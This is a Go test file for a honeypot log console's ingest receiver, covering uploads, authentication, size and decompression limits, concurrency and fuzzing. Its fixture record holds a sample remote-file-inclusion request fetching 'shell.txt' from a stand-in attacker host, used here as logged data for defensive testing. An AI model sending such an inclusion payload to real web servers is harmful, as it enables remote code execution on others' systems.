package ingest

import (
	"bufio"
	"bytes"
	"context"
	"crypto/md5"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/klauspost/compress/zstd"

	"github.com/trapline/trapline/audit"
	"github.com/trapline/trapline/console/control"
	"github.com/trapline/trapline/console/store"
	"github.com/trapline/trapline/forward"
	"github.com/trapline/trapline/spool"
)

// console is a receiver on a real socket with its store and one sensor, honeypot-sensor / test1234.
type console struct {
	*httptest.Server
	store    *store.Store
	control  *control.Control
	receiver *Receiver
}

func startConsole(t testing.TB, limits Limits) *console {
	t.Helper()
	s, err := store.Open(store.Config{Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	c, err := control.Open(control.Config{Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if err := c.SetSensor(t.Context(), "honeypot-sensor", "test1234"); err != nil {
		t.Fatal(err)
	}
	rc := New(Config{Store: s, Control: c, Limits: limits})
	srv := httptest.NewServer(rc)
	t.Cleanup(func() {
		srv.Close()
		c.Close()
		s.Close()
	})
	return &console{srv, s, c, rc}
}

// send makes a request as the sensor; headers are name, value pairs.
func (c *console) send(t testing.TB, method, path string, body io.Reader, headers ...string) (status int, answer string) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), method, c.URL+path, body)
	if err != nil {
		t.Fatal(err)
	}
	req.SetBasicAuth("honeypot-sensor", "test1234")
	for i := 0; i < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	resp, err := c.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(b)
}

func testEntry(n int) []byte {
	r := &audit.Record{
		ID: fmt.Sprintf("id-%d", n), Time: time.Date(2026, 11, 22, 8, 0, 0, n, time.UTC),
		Peer: netip.MustParseAddrPort("192.0.2.1:50000"), Server: netip.MustParseAddrPort("127.0.0.1:8000"),
		RequestHead: []byte("GET /index.php?page=http://evil.example/shell.txt? HTTP/1.1\r\nHost: www.example1.com\r\nUser-Agent: x\r\n"),
		RequestBody: []byte("body\x00of entry"), Status: 403, ResponseHead: []byte("HTTP/1.1 403 Forbidden\r\n"), Parts: "ABCFHZ",
		Matches: []audit.Match{{ID: 999004, Phase: 2, Disruptive: true, Message: "HoneyTrap Alert: Traffic Received on Fake Port.", Severity: "CRITICAL"}},
	}
	r.Client = r.Peer
	return audit.AppendNative(nil, r)
}

func md5Header(b []byte) string {
	sum := md5.Sum(b)
	return "md5:" + hex.EncodeToString(sum[:])
}

func TestPutAnswers(t *testing.T) {
	c := startConsole(t, Limits{Entry: 64 << 10})
	entry := testEntry(1)
	far := bytes.Replace(testEntry(2), []byte("22/Nov/2026"), []byte("22/Nov/9999"), 1)
	for _, s := range []struct {
		name    string
		method  string
		body    []byte
		headers []string
		want    int
	}{
		{"as mlogc sends it", "PUT", entry, []string{"X-Content-Hash", md5Header(entry) + " "}, 200},
		{"with a cut summary", "PUT", entry, []string{"X-Content-Hash", md5Header(entry) + " L", "X-ForensicLog-Summary", strings.Repeat("x", 16<<10)}, 200},
		{"by POST, without a hash", "POST", entry, nil, 200},
		{"with a hash we do not know", "PUT", entry, []string{"X-Content-Hash", "sha256:00"}, 200},
		{"from the far future", "PUT", far, nil, 200},
		{"damaged", "PUT", entry[:len(entry)-10], []string{"X-Content-Hash", md5Header(entry)}, 409},
		{"not an entry", "PUT", []byte("hello"), nil, 409},
		{"empty", "PUT", nil, nil, 409},
		{"not JSON", "PUT", []byte("{nonsense"), nil, 409},
		{"too big", "PUT", append(bytes.Clone(entry), make([]byte, 64<<10)...), nil, 409},
		{"GET", "GET", nil, nil, 405},
		{"wrong secret", "PUT", entry, []string{"Authorization", "Basic aG9uZXlwb3Qtc2Vuc29yOnRlc3QxMjM1"}, 401},
		{"no secret", "PUT", entry, []string{"Authorization", ""}, 401},
		{"bearer", "PUT", entry, []string{"Authorization", "Bearer honeypot-sensor:test1234"}, 200},
	} {
		if got, answer := c.send(t, s.method, PathPut, bytes.NewReader(s.body), s.headers...); got != s.want {
			t.Errorf("%s: %d %s, want %d", s.name, got, answer, s.want)
		}
	}
	// Chunked, so that the length is unknown: the limit holds as well.
	if got, _ := c.send(t, "PUT", PathPut, io.MultiReader(bytes.NewReader(entry), bytes.NewReader(make([]byte, 64<<10)))); got != 409 {
		t.Errorf("too big in chunks: %d", got)
	}
	list, _, err := c.store.Events(t.Context(), store.Filter{}, store.Page{})
	if err != nil || len(list) != 2 || list[0].Time.Year() > 2100 || list[0].ID != "id-2" && list[1].ID != "id-2" {
		t.Errorf("%+v, %v", list, err)
	}
	if st := c.receiver.Stats(); st.Stored != 2 || st.Known != 4 || st.Refused != 6 || st.Unauthorized != 2 || st.Unavailable != 0 {
		t.Errorf("%+v", st)
	}
}

func TestTroubleOfOurOwnIsTemporary(t *testing.T) {
	c := startConsole(t, Limits{})
	c.store.Close()
	if got, _ := c.send(t, "PUT", PathPut, bytes.NewReader(testEntry(1))); got != 503 {
		t.Errorf("PUT: %d", got)
	}
	if got, _ := c.send(t, "POST", PathBatch, bytes.NewReader(frame(testEntry(1)))); got != 503 {
		t.Errorf("batch: %d", got)
	}
}

// samples is the folder of captured logs; tests that need it skip where it is not.
func samples(t testing.TB) string {
	t.Helper()
	for _, dir := range []string{os.Getenv("TRAPLINE_REFERENCE"), "/work/shared/reference"} {
		if _, err := os.Stat(filepath.Join(dir, "modsec-audit-samples")); dir != "" && err == nil {
			return filepath.Join(dir, "modsec-audit-samples")
		}
	}
	t.Skip("SKIPPED: no captured logs (set TRAPLINE_REFERENCE)")
	return ""
}

// TestCapturedBytesOfMlogc plays what mlogc 2.9.7 sent, byte for byte, on one connection.
func TestCapturedBytesOfMlogc(t *testing.T) {
	capture, err := os.ReadFile("testdata/mlogc-2.9.7.bin")
	if err != nil {
		t.Fatal(err)
	}
	c := startConsole(t, Limits{})
	for round := range 2 { // the second time all are known
		conn, err := net.Dial("tcp", c.Listener.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		answers := bufio.NewReader(conn)
		n := 0
		for in := bufio.NewReader(bytes.NewReader(capture)); ; {
			req, err := http.ReadRequest(in)
			if err != nil {
				break
			}
			raw := rawRequest(t, req)
			if _, err := conn.Write(raw); err != nil {
				t.Fatal(err)
			}
			resp, err := http.ReadResponse(answers, req)
			if err != nil {
				t.Fatal(err)
			}
			if resp.StatusCode != 200 || resp.ContentLength != 0 || resp.Close {
				t.Fatalf("request %d: %s", n, resp.Status)
			}
			n++
		}
		conn.Close()
		if n < 5 {
			t.Fatalf("only %d requests in the capture", n)
		}
		st := c.receiver.Stats()
		if st.Stored != uint64(n) || st.Known != uint64(n*round) {
			t.Errorf("round %d: %+v of %d", round, st, n)
		}
	}
	list, _, err := c.store.Events(t.Context(), store.Filter{Rule: 999004}, store.Page{})
	if err != nil || len(list) == 0 {
		t.Fatal(len(list), err)
	}
	for _, e := range list {
		if e.Port != 8000 || e.Status != 403 || !e.Client.IsValid() || e.Host == "" {
			t.Errorf("%+v", e)
		}
	}
}

func rawRequest(t *testing.T, req *http.Request) []byte {
	t.Helper()
	body, err := io.ReadAll(req.Body)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	fmt.Fprintf(&b, "PUT %s HTTP/1.1\r\nHost: %s\r\nAuthorization: %s\r\nAccept: */*\r\n", req.RequestURI, req.Host, req.Header.Get("Authorization"))
	// The space at the end is mlogc's.
	fmt.Fprintf(&b, "X-Content-Hash: %s \r\nX-ForensicLog-Summary: %s \r\nContent-Length: %d\r\n\r\n", req.Header.Get("X-Content-Hash"), req.Header.Get("X-ForensicLog-Summary"), len(body))
	b.Write(body)
	return b.Bytes()
}

// TestEverySampleIsAccepted sends every entry of real logs of ModSecurity 2 and 3, native and JSON.
func TestEverySampleIsAccepted(t *testing.T) {
	dir := samples(t)
	c := startConsole(t, Limits{})
	sent := 0
	put := func(name string, entry []byte) {
		t.Helper()
		sent++
		if got, answer := c.send(t, "PUT", PathPut, bytes.NewReader(entry)); got != 200 {
			t.Errorf("%s: %d %s", name, got, answer)
		}
	}
	for _, pattern := range []string{"v2-*-concurrent/audit/*/*/*/*", "v3-*-parallel/tree/*/*/*"} {
		files, _ := filepath.Glob(filepath.Join(dir, pattern))
		for _, name := range files {
			entry, err := os.ReadFile(name)
			if err != nil {
				t.Fatal(err)
			}
			put(name, entry)
		}
	}
	for _, pattern := range []string{"v2-*/audit.json.log", "v3-*-json/audit.log"} {
		files, _ := filepath.Glob(filepath.Join(dir, pattern))
		for _, name := range files {
			b, err := os.ReadFile(name)
			if err != nil {
				t.Fatal(err)
			}
			for i, line := range bytes.Split(bytes.TrimSpace(b), []byte("\n")) {
				put(fmt.Sprintf("%s:%d", name, i+1), line)
			}
		}
	}
	t.Logf("%d entries sent", sent)
	if sent < 50 {
		t.Errorf("only %d entries found", sent)
	}
	st, err := c.store.Stats(t.Context())
	if err != nil || st.Events != int64(sent) {
		t.Errorf("%+v, %v", st, err)
	}
}

// frame makes the body of a batch.
func frame(entries ...[]byte) []byte {
	var b []byte
	for _, e := range entries {
		b = binary.AppendUvarint(b, uint64(len(e)))
		b = append(b, e...)
	}
	return b
}

func pack(t testing.TB, b []byte) []byte {
	t.Helper()
	enc, err := zstd.NewWriter(nil)
	if err != nil {
		t.Fatal(err)
	}
	defer enc.Close()
	return enc.EncodeAll(b, nil)
}

func TestBatchStoresWhatItCanAndNamesWhatItCannot(t *testing.T) {
	c := startConsole(t, Limits{Entry: 32 << 10})
	body := frame(testEntry(1), []byte("nonsense"), testEntry(2), make([]byte, 40<<10), testEntry(1), nil)
	for round, coding := range []string{"zstd", "identity", ""} {
		b, headers := body, []string{"Content-Type", ContentType}
		if coding == "zstd" {
			b = pack(t, body)
		}
		if coding != "" {
			headers = append(headers, "Content-Encoding", coding)
		}
		status, answer := c.send(t, "POST", PathBatch, bytes.NewReader(b), headers...)
		var got BatchAnswer
		if err := json.Unmarshal([]byte(answer), &got); err != nil || status != 200 {
			t.Fatalf("%s: %d %s", coding, status, answer)
		}
		want := BatchAnswer{Stored: 2, Known: 1}
		if round > 0 {
			want = BatchAnswer{Known: 3}
		}
		if got.Stored != want.Stored || got.Known != want.Known || len(got.Refused) != 3 || got.Refused[0].Index != 1 || got.Refused[1].Index != 3 || got.Refused[2].Index != 5 {
			t.Errorf("%s: %+v", coding, got)
		}
	}
}

func TestBatchLimits(t *testing.T) {
	c := startConsole(t, Limits{Entry: 1 << 20, Batch: 128 << 10, Unpacked: 2 << 20, Records: 100})
	var many [][]byte
	for n := range 101 {
		many = append(many, []byte(fmt.Sprint(n)))
	}
	bomb := frame(make([]byte, 1<<20), make([]byte, 1<<20), make([]byte, 1<<20))
	random := make([]byte, 200<<10)
	for i := range random {
		random[i] = byte(i * i >> 3)
	}
	for _, s := range []struct {
		name   string
		body   []byte
		coding string
		want   int
	}{
		{"empty", nil, "", 200},
		{"too many entries", frame(many...), "", 413},
		{"bomb", pack(t, bomb), "zstd", 413},
		{"as sent too big", frame(random), "", 413},
		{"length without entry", []byte{5, 'a'}, "", 400},
		{"half a length", []byte{0x80}, "", 400},
		{"endless length", bytes.Repeat([]byte{0xff}, 20), "", 400},
		{"huge length", binary.AppendUvarint(nil, 1<<63), "", 413},
		{"not zstd", []byte("plain"), "zstd", 400},
		{"cut zstd", pack(t, frame(testEntry(1)))[:100], "zstd", 400},
		{"other coding", frame(testEntry(1)), "br", 415},
	} {
		if got, answer := c.send(t, "POST", PathBatch, bytes.NewReader(s.body), "Content-Encoding", s.coding); got != s.want {
			t.Errorf("%s: %d %s, want %d", s.name, got, answer, s.want)
		}
	}
	// The length is not told beforehand.
	if got, _ := c.send(t, "POST", PathBatch, io.MultiReader(bytes.NewReader(frame(random)))); got != 413 {
		t.Errorf("too big in chunks: %d", got)
	}
	if st, err := c.store.Stats(t.Context()); err != nil || st.Events != 0 {
		t.Errorf("%d events of refused batches are stored, %v", st.Events, err)
	}
}

func TestConcurrentPutsAreAllStored(t *testing.T) {
	c := startConsole(t, Limits{})
	c.Client().Transport.(*http.Transport).MaxIdleConnsPerHost = 32
	var wg sync.WaitGroup
	for w := range 20 {
		wg.Go(func() {
			for i := range 25 {
				if got, answer := c.send(t, "PUT", PathPut, bytes.NewReader(testEntry(w*25+i))); got != 200 {
					t.Errorf("%d %s", got, answer)
				}
			}
		})
	}
	wg.Wait()
	if st, err := c.store.Stats(t.Context()); err != nil || st.Events != 500 {
		t.Errorf("%+v, %v", st, err)
	}
}

// FuzzBatch feeds any bytes to the framing.
func FuzzBatch(f *testing.F) {
	f.Add(frame(testEntry(1), []byte("x"), nil))
	f.Add([]byte{0x80})
	f.Add(bytes.Repeat([]byte{0xff}, 11))
	f.Add(binary.AppendUvarint(nil, 1<<62))
	rc := New(Config{Limits: Limits{Entry: 4 << 10, Unpacked: 16 << 10, Records: 50, InFlight: 32 << 10}})
	f.Fuzz(func(t *testing.T, b []byte) {
		taken := int64(0)
		events, answer, err := rc.frames(bufio.NewReader(bytes.NewReader(b)), "s", &taken)
		rc.inFlight.Release(taken)
		if taken > 16<<10 || len(events) > 50 {
			t.Errorf("took %d bytes, %d events", taken, len(events))
		}
		if err == nil && answer == nil {
			t.Error("no answer")
		}
		for i := range events {
			if !validID(events[i].Record.ID) || events[i].Record.Time.IsZero() {
				t.Errorf("event %d: %q %v", i, events[i].Record.ID, events[i].Record.Time)
			}
		}
	})
}

// TestForwarderAndReceiverSpeakTheSameProtocol sends batches with the sensor's own code.
func TestForwarderAndReceiverSpeakTheSameProtocol(t *testing.T) {
	c := startConsole(t, Limits{})
	entries := [][]byte{testEntry(1), []byte("no entry"), testEntry(2), testEntry(1)}
	d := forward.Destination{Name: "console", URL: c.URL, User: "honeypot-sensor", Password: "test1234"}
	stored, known, refused, err := forward.SendBatch(t.Context(), nil, d, entries)
	if err != nil || stored != 2 || known != 1 || refused != 1 {
		t.Errorf("%d stored, %d known, %d refused, %v", stored, known, refused, err)
	}
	d.Password = "wrong"
	ctx, cancel := context.WithTimeout(t.Context(), time.Second)
	defer cancel()
	if _, _, _, err := forward.SendBatch(ctx, nil, d, entries); err == nil {
		t.Error("a wrong password was accepted")
	}
}

// A forwarder that speaks mlogc's protocol goes on in batches from the first answer.
func TestPutAnswerUpgradesOurForwarder(t *testing.T) {
	c := startConsole(t, Limits{})
	q, err := spool.Open(spool.Config{Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer q.Close()
	reader, err := q.Reader("console")
	if err != nil {
		t.Fatal(err)
	}
	const n = 500
	for i := range n {
		if err := q.Append(t.Context(), fmt.Sprintf("id-%d", i), testEntry(i)); err != nil {
			t.Fatal(err)
		}
	}
	f, err := forward.New(forward.Config{Reader: reader, Drain: true, Destination: forward.Destination{
		Name: "console", URL: c.URL + PathPut, User: "honeypot-sensor", Password: "test1234", Protocol: forward.ProtocolMlogc, Connections: 1,
	}})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Run(t.Context()); err != nil {
		t.Fatal(err)
	}
	st := c.receiver.Stats()
	if st.Stored != n || st.Batches == 0 || st.Puts > n/10 {
		t.Errorf("%d entries took %d PUTs and %d batches: %+v", n, st.Puts, st.Batches, st)
	}
}
